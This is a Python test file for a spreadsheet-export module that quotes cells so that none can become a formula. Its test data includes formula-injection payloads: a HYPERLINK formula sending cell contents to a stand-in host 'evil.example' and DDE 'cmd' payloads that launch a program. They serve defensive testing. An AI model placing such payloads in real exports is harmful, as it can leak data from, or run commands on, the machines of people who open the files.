"""Safe spreadsheet exports (evalkit.export): no cell can become a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from evalkit.disclosure import personal_terms
from evalkit.export import DANGEROUS_STARTS, safe_cell, safe_frame, write_csv, write_xlsx

ROOT = Path(__file__).resolve().parents[1]

#: text as it comes from survey comments and names, each starting with a dangerous character
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "- a dash to start a list",
    "=",
]


def _comments() -> pd.DataFrame:
    return pd.DataFrame({
        "comment": DANGEROUS + ["fine", None],
        "change": [-1.5, 2, -3, 4, 5, 6, 7, 8, 9, 10, 11, 12, -13],
        "count": list(range(-6, 7)),
    })


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


def test_every_dangerous_start_is_covered():
    for start in DANGEROUS_STARTS:
        assert safe_cell(start + "x") == "'" + start + "x"


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12, np.int64(-4), np.float64(-2.5), True, None,
                                   dt.date(2024, 9, 3), "-0.5", "+3", "-12%", "1,234", "-1e5",
                                   "[c]", "Jane", "'already quoted", " =leading space"])
def test_safe_values_are_unchanged(value):
    assert safe_cell(value) is value


def test_safe_frame_is_vectorised_over_text_columns_and_leaves_numbers():
    frame = _comments()
    frame["mixed"] = pd.Series(["=A1", 5, -2, None, "ok"] + ["x"] * 8, dtype="object")
    frame["category"] = pd.Categorical(["@a", "b"] * 6 + ["@a"])
    frame["=cmd"] = range(13)
    before = frame.copy()
    safe = safe_frame(frame)
    assert safe["comment"].tolist()[:len(DANGEROUS)] == ["'" + t for t in DANGEROUS]
    assert safe["comment"].tolist()[-2:] == ["fine", None]
    assert safe["mixed"].tolist()[:5] == ["'=A1", 5, -2, None, "ok"]
    assert safe["category"].tolist()[:2] == ["'@a", "b"]
    assert safe["change"].tolist() == frame["change"].tolist()
    assert pd.api.types.is_float_dtype(safe["change"]) and pd.api.types.is_integer_dtype(safe["count"])
    assert list(safe.columns) == ["comment", "change", "count", "mixed", "category", "'=cmd"]
    pd.testing.assert_frame_equal(frame, before)


def test_csv_cells_cannot_start_a_formula(tmp_path):
    path = write_csv(_comments(), tmp_path / "comments.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["comment", "change", "count"]
    cells = [cell for row in rows for cell in row]
    numbers = {str(v) for v in _comments()["change"]} | {str(v) for v in range(-6, 7)}
    for cell in cells:
        if cell and cell[0] in DANGEROUS_STARTS:
            assert cell in numbers, cell      # only plain numbers may start with "-"
    assert [r[0] for r in rows[1:len(DANGEROUS) + 1]] == ["'" + t for t in DANGEROUS]
    # numbers stay numbers: read back as numbers, negative ones included
    back = pd.read_csv(path)
    assert back["change"].tolist() == _comments()["change"].tolist()
    assert back["count"].tolist() == list(range(-6, 7))


def test_csv_writes_a_labelled_index_and_quotes_commas(tmp_path):
    table = pd.DataFrame({"k": [12, 3]}, index=pd.Index(["=councillor", "Ann, Lee"], name="role"))
    text = write_csv(table, tmp_path / "t.csv").read_bytes().decode("utf-8-sig")
    assert text == "role,k\r\n'=councillor,12\r\n\"Ann, Lee\",3\r\n"


def _all_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def test_xlsx_has_no_formula_and_keeps_numbers(tmp_path):
    frame = _comments()
    frame["when"] = pd.Timestamp("2024-09-03 10:00", tz="Europe/London")
    frame["day"] = dt.date(2024, 9, 3)
    frame.loc[0, "change"] = np.nan
    frame.loc[1, "comment"] = "bad\x01control"
    path = write_xlsx({"Comments": frame, "=Sheet": pd.DataFrame({"-x": ["+1 2"]})},
                      tmp_path / "out.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["Comments", "=Sheet"]
    for _, cell in _all_cells(book):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value:
            assert cell.value[0] not in DANGEROUS_STARTS, (cell.coordinate, cell.value)
    sheet = book["Comments"]
    assert [c.value for c in sheet[1]] == ["comment", "change", "count", "when", "day"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet["A2"].value == "'" + DANGEROUS[0] and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "badcontrol"          # characters XML cannot carry are dropped
    assert sheet["A4"].value == "'" + DANGEROUS[2]
    assert sheet["B2"].value is None                  # NaN → empty
    assert sheet["B4"].value == -3 and sheet["B4"].data_type == "n"
    assert [sheet.cell(row=r, column=3).value for r in range(2, 15)] == list(range(-6, 7))
    assert sheet["D2"].value == "2024-09-03T10:00:00+01:00"   # a zone Excel cannot hold: text
    assert sheet["E2"].value == dt.datetime(2024, 9, 3) and sheet["E2"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > 10
    other = book["=Sheet"]
    assert [other["A1"].value, other["A2"].value] == ["'-x", "'+1 2"]
    # and in the raw XML no sheet holds a formula element
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_xlsx_about_sheet_and_properties_name_no_person(tmp_path):
    roster = pd.read_csv(ROOT / "data" / "sample" / "suffolk" / "roster.csv", dtype=str)
    results = pd.DataFrame({"measure": ["turnout"], "n": [16], "k": ["[c]"]})
    when = dt.datetime(2024, 11, 30, 12, 0)
    path = write_xlsx({"Participation": results, "About": results}, tmp_path / "r.xlsx",
                      title="Suffolk pilot: results", note="Counts under 5 are shown as [c].\nSecond line.",
                      when=when)
    book = load_workbook(path)
    assert book.sheetnames == ["About", "Participation", "About (2)"]
    about = [c.value for c in book["About"]["A"] if c.value is not None]
    assert about[:3] == ["Suffolk pilot: results", "Counts under 5 are shown as [c].", "Second line."]
    assert "Participation" in about and about[-1].startswith("Made with evalkit")
    assert book["About"]["A1"].font.bold
    props = book.properties
    assert (props.creator, props.lastModifiedBy, props.title) == ("evalkit", "evalkit", "Suffolk pilot: results")
    assert props.created == when and props.modified == when
    terms = [t.lower() for t in personal_terms(roster)]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("docProps/"):
                xml = archive.read(name).decode("utf-8").lower()
                assert not any(t in xml for t in terms), name


def test_xlsx_is_reproducible_with_a_fixed_time(tmp_path):
    sheets = {"Results": pd.DataFrame({"measure": ["turnout", "retention"], "estimate": [0.8, 0.6]})}
    when = dt.datetime(2024, 11, 30, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    first = write_xlsx(sheets, tmp_path / "a.xlsx", title="Results", when=when).read_bytes()
    second = write_xlsx(sheets, tmp_path / "b.xlsx", title="Results", when=when).read_bytes()
    assert first == second
    assert load_workbook(tmp_path / "a.xlsx").properties.modified == dt.datetime(2024, 11, 30, 11, 0)


def test_xlsx_sheet_names_are_made_acceptable(tmp_path):
    long = "Learning: pre/post [confidence] * by item? and more words"
    path = write_xlsx({long: pd.DataFrame({"a": [1]}), long + "!": pd.DataFrame({"a": [2]})},
                      tmp_path / "n.xlsx")
    names = load_workbook(path).sheetnames
    assert all(len(n) <= 31 for n in names) and len(set(names)) == 2
    assert not any(ch in "".join(names) for ch in "[]:*?/\\")
    assert names[1].endswith("(2)")


def test_xlsx_needs_something_to_write(tmp_path):
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx({}, tmp_path / "empty.xlsx")
